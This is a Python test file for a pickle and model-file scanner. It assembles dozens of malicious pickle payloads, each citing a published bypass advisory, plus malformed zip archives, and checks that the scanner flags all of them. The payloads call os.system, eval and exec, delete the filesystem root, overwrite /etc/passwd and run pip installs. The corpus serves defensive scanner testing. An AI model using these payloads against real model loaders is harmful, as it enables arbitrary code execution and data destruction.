"""The malicious corpus: every published scanner bypass we found, 100 % flagged (issue 15 §1).

Each case names its technique and source (advisory id or thread). They are scanned under the most
permissive policy this gate allows: ``pickle: scan``, every curated profile, and ``**`` patterns
on the ML packages whose gadgets the bypasses reach for (numpy, sklearn, joblib, xgboost,
lightgbm). Payloads are written as raw opcodes, so nothing is imported or executed to build them
(several target modules do not even exist on this Python: that makes no difference to a scanner
that must refuse what it does not know).

Sources (GitHub advisories of mmaitre314/picklescan unless noted):
- INST opcode import: picklescan issue #13 (Doyensec, 2023).
- memo confusion mixing PUT and MEMOIZE: picklescan issue #14 (Doyensec, 2023).
- ``numpy.__builtins__`` + ``dict.get``; dotted GLOBAL names walking ``numpy.prod.os.system`` and
  ``core._internal.sys.modules``: protectai/modelscan issue #89.
- BUILD monkey-patching an allowed function, then STACK_GLOBAL on its attributes:
  protectai/modelscan issue #85; the same with ``numpy.size`` state: modelscan issue #330.
- ``pkgutil.resolve_name``: GHSA-vvpj-8cmc-gx39; ``importlib.import_module`` / ``marshal.loads``:
  picklescan PR #74 and issue #66.
- ``pip.main``: CVE-2025-1716; ``ensurepip._run_pip``: GHSA-xp4f-hrf8-rxw7; ``venv``: fickling
  PR #210 (GHSA-vqmv-47xg-9wpr).
- ``timeit.timeit``: GHSA-v7x6-rv5q-mhwc; ``cProfile.run`` / ``profile.run`` / ``pdb`` / ``bdb`` /
  ``trace`` / ``doctest``: GHSA-46h3-79wf-xr6c, GHSA-4675-36f9-wf6r (via fickling PR #210).
- ``_operator.attrgetter`` / ``methodcaller``: GHSA-m273-6v24-x4m4, GHSA-955r-x9j8-7rhh.
- nested ``pickle.loads`` / ``_pickle.loads``: GHSA-84r2-jw7c-4r5q, modelscan issue #267.
- ``distutils.file_util.write_file``, ``_io.FileIO``, ``shutil``: CVE-2025-10155/10156; ``asyncio``
  subprocess transport: CVE-2025-10157 (JFrog; via fickling PR #210).
- ``idlelib`` / ``lib2to3``: GHSA-r8g5-cgf2-4m4m; ``http.client`` / ``ssl``: GHSA-hgrh-qx5j-jfwx.
- ``uuid._get_command_stdout``, ``imaplib.IMAP4_stream``, ``_pyrepl.pager``,
  ``_osx_support._read_output``, ``_aix_support``: CVE-2026-56315 (picklescan 1.0.4).
- ``logging.FileHandler``: CVE-2026-56304; ``mailcap.findmatch``: protectai/modelscan PR #346.
- ``numpy.f2py.crackfortran.getlincoef``: fickling PR #210; ``functools.partial``: same.
- ``collections.defaultdict`` factory edges: promptfoo/modelaudit PR #1063 (the factory global).
- NEWOBJ_EX constructors and copyreg extension codes (EXT1/2/4): promptfoo/modelaudit PR #1636.
- STACK_GLOBAL with non-string operands: modelaudit PR #330 (STACK_GLOBAL/memo tracking).
- ``runpy``, ``code``, ``pydoc``, ``torch._inductor``, ``torch.fx`` code loading: issue 15's list.
- Non-standard file extension: CVE-2025-1889; zip flag bits / bad CRC: CVE-2025-1945; zip file
  name manipulation: CVE-2025-1944 (Sonatype).
- torch ``_load_from_bytes`` wrapping a malicious checkpoint, and joblib array bytes that
  ``pickle.load`` would run: this change's own descents (issue 15 §1).
"""

from __future__ import annotations

import struct
import zipfile
from dataclasses import dataclass
from pathlib import Path

import pytest

from modelseal.models.allowlist import Allowlist
from modelseal.models.profiles import PROFILES
from modelseal.models.scan import scan_file

#: The most permissive allowlist a policy can ask for.
PERMISSIVE = (
    Allowlist.default()
    .with_profiles(PROFILES)
    .extended(["numpy.**", "sklearn.**", "joblib.**", "xgboost.**", "lightgbm.**"])
)
FLAGGING = {"unsafe-global", "dynamic-global", "indirect-call", "global-mutation",
            "pickle-extension", "unparsable", "trailing-data"}  # fmt: skip


def g(module: str, name: str) -> bytes:
    """GLOBAL (protocol 0 text)."""
    return b"c" + module.encode() + b"\n" + name.encode() + b"\n"


def u(text: str) -> bytes:
    """SHORT_BINUNICODE."""
    data = text.encode()
    return b"\x8c" + bytes([len(data)]) + data


def call(module: str, name: str, *args: bytes) -> bytes:
    """module.name(*args) at protocol 4, ending the pickle."""
    return b"\x80\x04" + g(module, name) + b"(" + b"".join(args) + b"tR."


@dataclass(frozen=True)
class Case:
    name: str
    source: str
    data: bytes
    filename: str = "evil.pkl"


def _cases() -> list[Case]:
    cases = [
        Case("INST imports and calls in one opcode", "picklescan#13",
             b"(S'echo pwned'\nios\nsystem\n."),
        Case("memo confusion: PUT and MEMOIZE mixed", "picklescan#14",
             b"\x80\x04" + u("os") + b"q\x00" + u("system") + b"q\x01" + u("torch._utils")
             + b"\x94" + u("_rebuild_tensor_v2") + b"\x94h\x00h\x01\x93" + u("id") + b"\x85R."),
        Case("numpy.__builtins__ via dict.get", "modelscan#89",
             b"\x80\x05" + g("builtins", "dict.get") + g("numpy", "__builtins__")
             + b"Vexec\n\x86RV__import__('os').system('id')\n\x85R."),
        Case("dotted GLOBAL walking numpy.prod to os.system", "modelscan#89",
             b"\x80\x05" + g("numpy", "prod.os.system") + b"Vid\n\x85R."),
        Case("dotted GLOBAL into numpy.core._internal.sys.modules", "modelscan#89",
             b"\x80\x05" + g("numpy", "core._internal.sys.modules") + b"."),
        Case("BUILD monkey-patches numpy.prod, STACK_GLOBAL reads it back", "modelscan#85",
             b"\x80\x05" + g("numpy", "prod") + b"N(Va\nVos\nd\x86b0" + g("numpy", "prod.a")
             + b"p0\n0" + b"g0\nVsystem\n\x93Vid\n\x85R."),
        Case("BUILD on numpy.size with __builtins__ state", "modelscan#330",
             b"\x80\x04" + u("numpy") + u("size") + b"\x93\x94\x94" + u("numpy")
             + u("__builtins__") + b"\x93\x94\x94h\x01}}" + u("shape") + b"h\x03s\x86bh\x01h\x01"
             + u("eval") + b"\x86R" + u("__import__('os').system('id')") + b"\x85R."),
        Case("pkgutil.resolve_name", "GHSA-vvpj-8cmc-gx39", call("pkgutil", "resolve_name", u("os:system"))),
        Case("importlib.import_module", "picklescan PR #74", call("importlib", "import_module", u("os"))),
        Case("marshal.loads of a code object", "picklescan PR #74", call("marshal", "loads", b"C\x01\x00")),
        Case("pip.main", "CVE-2025-1716", call("pip", "main", b"(" + u("install") + u("evil") + b"l")),
        Case("ensurepip._run_pip", "GHSA-xp4f-hrf8-rxw7", call("ensurepip", "_run_pip", b"]")),
        Case("venv.create", "GHSA-vqmv-47xg-9wpr", call("venv", "create", u("/tmp/x"))),
        Case("timeit.timeit", "GHSA-v7x6-rv5q-mhwc", call("timeit", "timeit", u("__import__('os').system('id')"))),
        Case("cProfile.run", "GHSA-46h3-79wf-xr6c", call("cProfile", "run", u("__import__('os')"))),
        Case("profile.run", "GHSA-46h3-79wf-xr6c", call("profile", "run", u("__import__('os')"))),
        Case("pdb.run", "GHSA-4675-36f9-wf6r", call("pdb", "run", u("__import__('os')"))),
        Case("bdb.Bdb.run", "GHSA-4675-36f9-wf6r", call("bdb", "Bdb.run", u("x"))),
        Case("trace.Trace.run", "GHSA-4675-36f9-wf6r", call("trace", "Trace.run", u("x"))),
        Case("doctest.debug_script", "GHSA-4675-36f9-wf6r", call("doctest", "debug_script", u("x"))),
        Case("_operator.attrgetter", "GHSA-m273-6v24-x4m4", call("_operator", "attrgetter", u("system"))),
        Case("operator.methodcaller", "GHSA-955r-x9j8-7rhh", call("operator", "methodcaller", u("system"))),
        Case("nested pickle.loads", "GHSA-84r2-jw7c-4r5q", call("pickle", "loads", b"C\x02N.")),
        Case("nested _pickle.loads", "modelscan#267", call("_pickle", "loads", b"C\x02N.")),
        Case("distutils.file_util.write_file", "CVE-2025-10155", call("distutils.file_util", "write_file", u("/tmp/x"), b"]")),
        Case("_io.FileIO", "CVE-2025-10156", call("_io", "FileIO", u("/etc/passwd"), u("w"))),
        Case("shutil.rmtree", "CVE-2025-10156", call("shutil", "rmtree", u("/"))),
        Case("asyncio subprocess transport", "CVE-2025-10157",
             call("asyncio.unix_events", "_UnixSubprocessTransport", u("id"))),
        Case("idlelib.run", "GHSA-r8g5-cgf2-4m4m", call("idlelib.pyshell", "main")),
        Case("lib2to3.main", "GHSA-r8g5-cgf2-4m4m", call("lib2to3.main", "main", u("x"))),
        Case("http.client.HTTPConnection", "GHSA-hgrh-qx5j-jfwx", call("http.client", "HTTPConnection", u("evil"))),
        Case("ssl.get_server_certificate", "GHSA-hgrh-qx5j-jfwx", call("ssl", "get_server_certificate", u("x"))),
        Case("uuid._get_command_stdout", "CVE-2026-56315", call("uuid", "_get_command_stdout", u("id"))),
        Case("imaplib.IMAP4_stream", "CVE-2026-56315", call("imaplib", "IMAP4_stream", u("id"))),
        Case("_pyrepl.pager.pipe_pager", "CVE-2026-56315", call("_pyrepl.pager", "pipe_pager", u("x"), u("id"))),
        Case("_osx_support._read_output", "CVE-2026-56315", call("_osx_support", "_read_output", u("id"))),
        Case("_aix_support._read_cmd_output", "CVE-2026-56315", call("_aix_support", "_read_cmd_output", u("id"))),
        Case("logging.FileHandler", "CVE-2026-56304", call("logging", "FileHandler", u("/tmp/x"))),
        Case("mailcap.findmatch", "modelscan PR #346", call("mailcap", "findmatch", b"}", u("text/plain"))),
        Case("numpy.f2py.crackfortran.getlincoef", "fickling PR #210",
             call("numpy.f2py.crackfortran", "getlincoef", u("__import__('os')"), b"}")),
        Case("functools.partial around os.system", "fickling PR #210",
             call("functools", "partial", g("os", "system"), u("id"))),
        Case("defaultdict whose factory is os.system", "modelaudit PR #1063",
             call("collections", "defaultdict", g("os", "system"))),
        Case("NEWOBJ_EX constructor", "modelaudit PR #1636",
             b"\x80\x04" + g("subprocess", "Popen") + b"(" + u("id") + b"t}\x92."),
        Case("copyreg extension code (EXT1)", "modelaudit PR #1636", b"\x80\x02\x82\x01)R."),
        Case("STACK_GLOBAL on a non-string (int) operand", "modelaudit PR #330",
             b"\x80\x04K\x01" + u("system") + b"\x93."),
        Case("runpy.run_path", "issue 15", call("runpy", "run_path", u("/tmp/x.py"))),
        Case("code.InteractiveInterpreter.runsource", "issue 15",
             call("code", "InteractiveInterpreter.runsource", u("x"))),
        Case("pydoc.pipepager", "issue 15", call("pydoc", "pipepager", u("x"), u("id"))),
        Case("torch._inductor code cache", "issue 15",
             call("torch._inductor.codecache", "PyCodeCache.load", u("import os"))),
        Case("torch.fx generated code (exec)", "issue 15",
             call("torch.fx.graph_module", "reduce_graph_module", b"}", u("import os"))),
        Case("sklearn dataset loader inside sklearn.**", "gadget list (this change)",
             call("sklearn.datasets._base", "load_files", u("/etc"))),
        Case("joblib.load inside joblib.**", "gadget list (this change)",
             call("joblib.numpy_pickle", "load", u("/tmp/evil.pkl"))),
        Case("joblib NDArrayWrapper (np.load of a named file)", "gadget list (this change)",
             b"\x80\x04" + g("joblib.numpy_pickle_compat", "NDArrayWrapper") + b")\x81."),
        Case("numpy.load inside numpy.**", "gadget list (this change)",
             call("numpy.lib._npyio_impl", "load", u("/tmp/x.npy"))),
        Case("xgboost tracker server inside xgboost.**", "gadget list (this change)",
             call("xgboost.tracker", "RabitTracker", b"K\x02")),
        Case("non-standard file extension", "CVE-2025-1889",
             call("os", "system", u("id")), filename="weights.txt"),
    ]  # fmt: skip
    return cases


def _zip_tricks() -> list[Case]:
    evil = call("os", "system", u("id"))
    out: list[Case] = []

    def archive(*members: tuple[str, bytes]) -> bytes:
        import io

        buf = io.BytesIO()
        with zipfile.ZipFile(buf, "w") as zf:
            zf.writestr("archive/version", b"3\n")
            for name, data in members:
                zf.writestr(name, data)
        return buf.getvalue()

    benign = b"\x80\x02}q\x00."
    # CVE-2025-1945: flag bits changed (encrypted bit, here) and CRC broken on data.pkl
    data = bytearray(archive(("archive/data.pkl", evil)))
    local = data.index(b"PK\x03\x04" + data[4:6], data.index(b"archive/data.pkl") - 40)
    struct.pack_into("<H", data, local + 6, 1)  # general-purpose flags: encrypted
    out.append(Case("zip flag bits changed on the pickle member", "CVE-2025-1945",
                    bytes(data), "model.pt"))  # fmt: skip
    data = bytearray(archive(("archive/data.pkl", evil)))
    cd = data.rindex(b"PK\x01\x02")
    struct.pack_into("<I", data, cd + 16, 0xDEADBEEF)  # central directory CRC
    out.append(Case("zip member with a bad CRC", "CVE-2025-1945", bytes(data), "model.pt"))
    # CVE-2025-1944: the name differs between local header and central directory, and
    # duplicate names (a reader that takes the first vs the last)
    with pytest.warns(UserWarning):
        dup = archive(("archive/data.pkl", benign), ("archive/data.pkl", evil))
    out.append(Case("duplicate zip member names", "CVE-2025-1944", dup, "model.pt"))
    data = bytearray(archive(("archive/data.pkl", evil)))
    at = data.index(b"archive/data.pkl")  # the local header's copy of the name
    data[at : at + 16] = b"archive/data.pkx"
    out.append(Case("zip local name differs from the central directory", "CVE-2025-1944",
                    bytes(data), "model.pt"))  # fmt: skip
    return out


def _descents() -> list[Case]:
    # torch.storage._load_from_bytes(legacy torch.save of an object that runs os.system)
    legacy_magic = b"\x80\x02\x8a\nl\xfc\x9cF\xf9 j\xa8P\x19."
    inner = (
        legacy_magic
        + b"\x80\x02M\xe9\x03."
        + b"\x80\x02}q\x00."
        + b"\x80\x02" + g("os", "system") + b"X\x02\x00\x00\x00id\x85R."
        + b"\x80\x02]q\x00."
    )  # fmt: skip
    outer = (
        b"\x80\x04" + g("torch.storage", "_load_from_bytes")
        + b"B" + struct.pack("<I", len(inner)) + inner + b"\x85R."
    )  # fmt: skip
    return [Case("malicious checkpoint inside torch.storage._load_from_bytes", "issue 15 §1", outer)]


CASES = _cases() + _zip_tricks() + _descents()


def test_corpus_is_large_and_distinct() -> None:
    assert len(CASES) >= 60
    assert len({c.name for c in CASES}) == len(CASES)
    assert all(c.source for c in CASES)


@pytest.mark.parametrize("case", CASES, ids=[c.name for c in CASES])
def test_published_bypass_is_flagged(tmp_path: Path, case: Case) -> None:
    path = tmp_path / case.filename
    path.write_bytes(case.data)
    issues = scan_file(path, PERMISSIVE).issues
    flagging = [i for i in issues if i.kind in FLAGGING]
    assert flagging, f"{case.name} ({case.source}) passed: {[(i.kind, i.title) for i in issues]}"
